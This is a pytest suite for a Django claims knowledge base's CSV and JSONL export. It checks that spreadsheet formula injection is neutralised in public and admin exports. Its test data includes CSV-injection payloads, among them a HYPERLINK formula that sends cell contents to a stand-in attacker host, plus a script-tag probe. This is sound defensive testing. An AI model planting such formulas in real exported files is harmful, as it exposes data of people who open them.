import csv
import datetime
import io
import json

import pytest
from django.core.management import CommandError, call_command
from django.db import connection

from claims import export
from claims.filters import filter_claims
from claims.models import Actor, Claim, Evidence, Passage
from claims.sources import store_source
from tests.factories import add_evidence, make_actor, make_claim, make_event, make_passage

pytestmark = pytest.mark.django_db

# The design's stable columns, in order, then the ones appended after them.
STABLE = (
    "id,url,statement,kind,status,claimant,subjects,event,event_date,tags,disputed,disputed_by,"
    "supporting_sources,source_title,source_url,quote,quote_start,quote_end,created_at,updated_at"
)
HEADER = STABLE + ",speaker,supporting_quotes,disputing_quotes,source_publisher,source_published"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tindented",
    "\rreturn first",
    "<script>alert(1)</script>",
    'a "quoted", comma',
    "two\nlines and a\r\nCRLF and a bare\rCR",
    "Ким Чен Ын, 金正恩 — «ü»",
    "\n=SUM(A1) after a line feed",
    " =SUM(A1) after a space",
    "\u00a0=SUM(A1) after a no-break space",
    "\u3000=SUM(A1) after an ideographic space",
    '＝HYPERLINK("http://evil.example")',
    "＋1＋2",
    "－2＋3",
    "＠SUM(A1:A2)",
]
# What a spreadsheet runs, or trims before running: the cell must start with "'" instead.
SPREADSHEET_STARTS = (
    "=+-@\t\r\n"
    " \u00a0\u1680\u2000\u2001\u2002\u2003\u2007\u2009\u200a\u2028\u2029\u202f\u205f\u3000"
    "\u200b\ufeff\x0b\x0c\x85"
    "＝＋－＠"
)


def quoted(source, quote):
    """The passage of `source` spanning `quote` (ingest may have made it already)."""
    start = source.text.index(quote)
    found = Passage.objects.filter(source=source, start=start, end=start + len(quote)).first()
    return found or make_passage(source, quote)


def body(response):
    return b"".join(response.streaming_content)


def read(data):
    text = data.decode("utf-8")
    assert text.startswith(HEADER + "\n")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def public_csv(client, query=""):
    response = client.get(f"/claims/export.csv{query}")
    assert response.status_code == 200, response.content
    return read(body(response))


def test_header_and_column_order_follow_the_design(client, world):
    data = body(client.get("/claims/export.csv"))
    assert data.decode().splitlines()[0] == HEADER
    assert data.decode().startswith(STABLE + ",")
    assert tuple(HEADER.split(",")) == export.COLUMNS


def test_row_holds_the_claim_with_lists_dispute_state_and_first_quote(client, world):
    (row,) = public_csv(client)
    claim = world.claim
    assert row == {
        "id": str(claim.pk),
        "url": f"http://testserver/claims/{claim.slug}/",
        "statement": claim.statement,
        "kind": "allegation",
        "status": "published",
        "claimant": "Officials",
        "subjects": "North Korea; Russia",
        "event": "Pyongyang summit",
        "event_date": "2024-06",
        "tags": "arms transfer",
        "disputed": "yes",
        "disputed_by": "North Korea; Russia",
        "supporting_sources": "2",
        "source_title": "Summit report",
        "source_url": "",
        "quote": world.supporting.text,
        "quote_start": str(world.supporting.start),
        "quote_end": str(world.supporting.end),
        "created_at": claim.created_at.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "updated_at": claim.updated_at.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "speaker": "Officials",
        "supporting_quotes": f"{world.supporting.text} | {world.second.text}",
        "disputing_quotes": world.disputing.text,
        "source_publisher": "Daily Paper",
        "source_published": "2024-06-19",
    }


def test_unpublished_claims_are_absent_from_the_public_export(client, world):
    for status in ("draft", "in_review", "withdrawn"):
        make_claim(f"A {status} claim.", status=status)
    rows = public_csv(client)
    assert [r["status"] for r in rows] == ["published"]
    assert "secret draft" not in body(client.get("/claims/export.csv?status=draft")).decode()


def test_every_filter_of_the_list_applies(client, world):
    other = make_claim("Unrelated fact.", kind=Claim.Kind.FACT)
    add_evidence(other, make_passage())
    both = {str(world.claim.pk), str(other.pk)}
    only = {str(world.claim.pk)}
    cases = {
        "": both,
        "?disputed=yes": only,
        "?disputed=no": {str(other.pk)},
        "?claimant=officials": only,
        "?subject=north-korea": only,
        f"?event={world.event.slug}": only,
        "?tag=arms-transfer": only,
        f"?source={world.source_b.slug}": only,
        "?kind=allegation": only,
        "?kind=fact": {str(other.pk)},
        "?q=weapons": only,
        "?q=weapons&disputed=no": set(),
    }
    for query, expected in cases.items():
        assert {r["id"] for r in public_csv(client, query)} == expected, query


def test_sort_orders_rows_like_the_list(client, world):
    newer = make_claim("A newer claim.")
    ids = [r["id"] for r in public_csv(client)]
    assert ids == [str(newer.pk), str(world.claim.pk)]
    assert [r["id"] for r in public_csv(client, "?sort=oldest")] == ids[::-1]
    assert [r["id"] for r in public_csv(client, "?sort=corroborated")] == ids[::-1]


@pytest.mark.parametrize("query", ["?disputed=maybe", "?kind=%3Cscript%3E", "?sort=x", "?q=a%00b"])
def test_malformed_filter_is_a_400_with_the_reason(client, world, query):
    response = client.get(f"/claims/export.csv{query}")
    assert response.status_code == 400
    # Plain text that browsers must not sniff as HTML, so an echoed <script> stays inert.
    assert response["Content-Type"].startswith("text/plain")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.content.strip()


def test_response_streams_with_a_dated_file_name(client, world):
    response = client.get("/claims/export.csv")
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = datetime.date.today().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="claims-{today}.csv"'


def test_bom_only_when_asked(client, world):
    assert not body(client.get("/claims/export.csv")).startswith(export.BOM)
    data = body(client.get("/claims/export.csv?bom=1"))
    assert data.startswith(export.BOM + b"id,url,")


def test_export_route_is_not_read_as_a_claim_slug(client, world):
    make_claim("Export csv", slug="export-csv")
    assert client.get("/claims/export.csv")["Content-Type"].startswith("text/csv")
    assert client.get("/claims/export.jsonl")["Content-Type"].startswith("application/jsonl")


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cells_read_back_exactly_and_formulas_are_neutralized(client, value):
    source, _ = store_source(f"Intro line.\nQuote: {value.strip()} end.", title=value)
    actor = make_actor(value, kind=Actor.Kind.GROUP, slug="hostile-actor")
    claim = make_claim(value, claimant=actor, event=make_event(value))
    claim.subjects.set([actor])
    claim.tags.add(value.strip() or "blank")
    quote = f"Quote: {value.strip()} end."
    add_evidence(claim, quoted(source, quote))
    (row,) = public_csv(client)
    expected = export.neutralize(value)
    assert row["statement"] == expected
    assert row["claimant"] == expected
    assert row["subjects"] == expected
    assert row["event"] == expected
    assert row["source_title"] == export.neutralize(source.title)
    assert row["quote"] == quote
    assert row["tags"] == export.neutralize(value.strip() or "blank")
    if value[0] in SPREADSHEET_STARTS:
        assert row["statement"] == "'" + value


def test_every_formula_prefix_gets_a_leading_quote():
    for first in SPREADSHEET_STARTS:
        assert export.neutralize(f"{first}cmd") == f"'{first}cmd", repr(first)
    assert export.neutralize("plain") == "plain"
    assert export.neutralize("") == ""
    assert export.neutralize("a=b") == "a=b"
    assert export.neutralize("«quoted»") == "«quoted»"


@pytest.mark.parametrize("first", SPREADSHEET_STARTS)
def test_cells_a_spreadsheet_would_run_or_trim_are_neutralized_in_every_csv(
    client, world, django_user_model, first
):
    value = f'{first}=HYPERLINK("http://evil.example")'
    claim = make_claim(value, claimant=make_actor(value, slug="hostile"))
    claim.tags.add(f"{first}tag")
    add_evidence(claim, world.second)
    rows = {r["id"]: r for r in public_csv(client)}
    boss = django_user_model.objects.create_superuser("boss", "boss@example.com", "x" * 16)
    client.force_login(boss)
    action = {"action": "export_csv", "_selected_action": [claim.pk]}
    admin_rows = {r["id"]: r for r in read(body(client.post("/admin/claims/claim/", action)))}
    for row in (rows[str(claim.pk)], admin_rows[str(claim.pk)]):
        assert row["statement"] == row["claimant"] == "'" + value
        assert row["tags"] == f"'{first}tag" or first.isspace()  # taggit strips tag names


def test_a_csv_read_back_equals_the_database(client, world):
    for value in HOSTILE:
        claim = make_claim(value.replace("\r", ""))
        add_evidence(claim, world.second)
    rows = {int(r["id"]): r for r in public_csv(client)}
    claims = filter_claims({})[0].select_related("claimant", "event")
    assert set(rows) == {c.pk for c in claims}
    for claim in claims:
        row = rows[claim.pk]
        assert row["statement"] == export.neutralize(claim.statement)
        assert row["kind"] == claim.kind
        assert row["claimant"] == (claim.claimant.name if claim.claimant else "")
        assert row["disputed"] == ("yes" if claim.is_disputed else "no")
        # with_dispute_state() joins in scan order on SQLite; the export sorts the names
        assert row["disputed_by"] == "; ".join(sorted(filter(None, claim.disputed_by.split("; "))))
        assert int(row["supporting_sources"]) == claim.supporting_sources
        assert row["subjects"] == "; ".join(sorted(a.name for a in claim.subjects.all()))


def test_nul_character_stored_by_a_raw_write_still_reads_back(client):
    if connection.vendor == "postgresql":
        pytest.skip("PostgreSQL text cannot hold NUL")
    claim = make_claim("safe")
    Claim.objects.filter(pk=claim.pk).update(statement="nul\x00inside")
    (row,) = public_csv(client)
    assert row["statement"] == "nul\x00inside"


def test_export_runs_a_fixed_number_of_queries(client, world, django_assert_max_num_queries):
    from tests.reader_world import more_claims

    if connection.vendor == "postgresql":
        pytest.skip("COPY runs on the raw connection, outside Django's query log")
    more_claims(world, 30)
    body(client.get("/claims/export.csv"))  # warm the content type cache
    with django_assert_max_num_queries(3):
        assert len(read(body(client.get("/claims/export.csv")))) == 31


@pytest.mark.postgres_only
def test_copy_and_python_paths_give_identical_bytes_on_postgresql(world):
    for n, value in enumerate(HOSTILE):
        source, _ = store_source(
            f"Text {n}: {value.strip()} end.", title=value, publisher=value.strip()[:200]
        )
        actor = make_actor(value, slug=f"hostile-{n}")
        claim = make_claim(value, claimant=actor, event=make_event(value), slug=f"h-{n}")
        claim.subjects.set([actor, world.subject])
        claim.tags.add(value.strip() or "blank", "zeta")
        add_evidence(claim, quoted(source, f"Text {n}: {value.strip()} end."))
        add_evidence(claim, world.disputing, stance=Evidence.Stance.DISPUTES, actors=[actor])
    for sort in ("newest", "oldest", "corroborated"):
        queryset = filter_claims({"sort": sort}, allow_status=True)[0]
        copied = b"".join(export.copy_csv_chunks(queryset, base_url="https://kb.example"))
        python = b"".join(export.python_csv_chunks(queryset, base_url="https://kb.example"))
        assert copied == python
        assert len(read(copied)) == len(HOSTILE) + 2


def test_command_exports_any_status_with_filters_to_a_file(world, tmp_path):
    out = tmp_path / "claims.csv"
    call_command("export_claims", "--output", str(out), verbosity=0)
    assert {r["status"] for r in read(out.read_bytes())} == {"published", "draft"}
    call_command("export_claims", "--output", str(out), "--status", "draft", verbosity=0)
    assert [r["statement"] for r in read(out.read_bytes())] == [world.draft.statement]
    call_command("export_claims", "-o", str(out), "--disputed", "yes", "--bom", verbosity=0)
    data = out.read_bytes()
    assert data.startswith(export.BOM)
    assert [r["id"] for r in read(data[3:])] == [str(world.claim.pk)]


def test_command_writes_to_stdout_and_refuses_bad_filters(world):
    stdout = io.StringIO()
    call_command(
        "export_claims", "--kind", "allegation", "--base-url", "https://kb.example/", stdout=stdout
    )
    (row,) = read(stdout.getvalue().encode())
    assert row["url"] == f"https://kb.example/claims/{world.claim.slug}/"
    with pytest.raises(CommandError, match="Unknown status"):
        call_command("export_claims", "--status", "secret", stdout=io.StringIO())


def test_jsonl_has_lists_as_arrays_and_every_evidence_passage(client, world):
    response = client.get("/claims/export.jsonl")
    assert response.streaming
    lines = body(response).decode().splitlines()
    assert len(lines) == 1
    item = json.loads(lines[0])
    assert item["subjects"] == ["North Korea", "Russia"]
    assert item["tags"] == ["arms transfer"]
    assert item["disputed"] is True
    assert item["disputed_by"] == ["North Korea", "Russia"]
    assert item["supporting_sources"] == 2
    assert sorted(
        (e["stance"], e["start"], e["end"], e["quote"]) for e in item["evidence"]
    ) == sorted(
        (e.stance, e.passage.start, e.passage.end, e.passage.text)
        for e in world.claim.evidence.select_related("passage")
    )
    disputing = [e for e in item["evidence"] if e["stance"] == "disputes"]
    assert disputing[0]["actors"] == ["North Korea", "Russia"]
    assert disputing[0]["start"] == world.disputing.start


def test_command_jsonl_keeps_hostile_text_verbatim(world):
    make_claim('=HYPERLINK("x") <script>\n')
    stdout = io.StringIO()
    call_command("export_claims", "--format", "jsonl", stdout=stdout)
    statements = [json.loads(line)["statement"] for line in stdout.getvalue().splitlines()]
    assert '=HYPERLINK("x") <script>\n' in statements


def test_admin_style_queryset_streams_through_the_shared_response(world):
    """The admin action calls claims_csv_response(queryset, ...) with its own queryset."""
    queryset = Claim.objects.filter(subjects__name__icontains="o").distinct().order_by("pk")
    response = export.claims_csv_response(queryset, filename_stem="claims selected", bom=True)
    assert response["Content-Disposition"].startswith('attachment; filename="claims-selected-')
    data = b"".join(response.streaming_content)
    assert data.startswith(export.BOM)
    assert [r["id"] for r in read(data[3:])] == [str(world.claim.pk)]


@pytest.mark.postgres_only
def test_export_plan_settings_end_with_the_export_on_postgresql(world):

    def settings():
        with connection.cursor() as cursor:
            cursor.execute("SELECT current_setting('jit'), current_setting('enable_sort')")
            return cursor.fetchone()

    before = settings()
    body = b"".join(export.csv_chunks(filter_claims({})[0]))
    assert world.claim.statement.encode() in body
    assert settings() == before


def test_speaker_says_the_source_speaks_when_there_is_no_claimant(client, world):
    own = make_claim("The summit ended early.")
    add_evidence(own, world.second)  # "Second report", publisher "Evening Post"
    untitled = make_claim("A report without a publisher.")
    source, _ = store_source("Plain text.\nNo publisher here.", title="Plain report")
    add_evidence(untitled, quoted(source, "No publisher here."))
    bare = make_claim("A claim with no passage yet.")
    rows = {r["id"]: r for r in public_csv(client)}
    assert rows[str(world.claim.pk)]["speaker"] == "Officials"
    assert rows[str(own.pk)]["speaker"] == "Evening Post (the source's own voice)"
    assert rows[str(own.pk)]["claimant"] == ""  # the stable column is unchanged
    assert rows[str(untitled.pk)]["speaker"] == "Plain report (the source's own voice)"
    assert rows[str(untitled.pk)]["source_publisher"] == ""
    assert rows[str(bare.pk)]["speaker"] == rows[str(bare.pk)]["supporting_quotes"] == ""


def test_every_supporting_and_disputing_quote_is_exported_in_evidence_order(client, world):
    rows = {r["id"]: r for r in public_csv(client)}
    row = rows[str(world.claim.pk)]
    assert row["supporting_quotes"].split(export.QUOTE_SEPARATOR) == [
        world.supporting.text,
        world.second.text,
    ]
    assert row["quote"] == world.supporting.text  # the first one, as before
    assert row["disputing_quotes"] == world.disputing.text


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_new_columns_neutralize_formulas_in_the_public_and_the_admin_export(
    client, django_user_model
):
    source, _ = store_source(
        f"{HYPERLINK}\n{HYPERLINK} again\n-1+1 disputes it", title=HYPERLINK, publisher=HYPERLINK
    )
    claim = make_claim("A claim quoting a formula.")
    add_evidence(claim, quoted(source, HYPERLINK))
    add_evidence(claim, quoted(source, f"{HYPERLINK} again"))
    add_evidence(claim, quoted(source, "-1+1 disputes it"), stance=Evidence.Stance.DISPUTES)
    (public,) = public_csv(client)
    client.force_login(django_user_model.objects.create_superuser("boss", "b@example.com", "x"))
    action = {"action": "export_csv", "_selected_action": [claim.pk]}
    (admin_row,) = read(body(client.post("/admin/claims/claim/", action)))
    for row in (public, admin_row):
        assert row["speaker"] == f"'{HYPERLINK} (the source's own voice)"
        assert row["source_publisher"] == f"'{HYPERLINK}"
        assert row["supporting_quotes"] == f"'{HYPERLINK} | {HYPERLINK} again"
        assert row["disputing_quotes"] == "'-1+1 disputes it"


def test_admin_export_links_claims_readers_cannot_see_to_their_admin_page(
    client, world, django_user_model
):
    client.force_login(django_user_model.objects.create_superuser("boss", "b@example.com", "x"))
    withdrawn = make_claim("A withdrawn claim.", status=Claim.Status.WITHDRAWN)
    chosen = [world.claim, world.draft, withdrawn]
    action = {"action": "export_csv", "_selected_action": [c.pk for c in chosen]}
    rows = {r["id"]: r for r in read(body(client.post("/admin/claims/claim/", action)))}
    assert rows[str(world.claim.pk)]["url"] == f"http://testserver/claims/{world.claim.slug}/"
    for claim in (world.draft, withdrawn):
        url = rows[str(claim.pk)]["url"]
        assert url == f"http://testserver/admin/claims/claim/{claim.pk}/change/"
        assert client.get(url.removeprefix("http://testserver")).status_code == 200
